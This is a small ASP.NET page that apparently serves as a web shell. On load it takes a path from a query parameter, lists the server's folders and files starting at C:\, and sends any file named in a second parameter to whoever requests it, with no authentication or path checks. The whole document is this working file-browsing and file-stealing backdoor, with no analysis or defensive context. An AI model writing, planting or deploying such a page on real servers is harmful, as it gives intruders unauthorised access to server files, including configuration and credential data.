<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string path = Request["p"];
    if (string.IsNullOrEmpty(path)) path = "C:\\";
    foreach (var d in new System.IO.DirectoryInfo(path).GetDirectories())
        Response.Write("<a href='?p=" + Server.UrlEncode(d.FullName) + "'>" + d.Name + "</a><br/>");
    foreach (var f in System.IO.Directory.GetFiles(path))
        Response.Write(f + "<br/>");
    if (Request["dl"] != null) { Response.TransmitFile(Request["dl"]); Response.End(); }
}
</script>
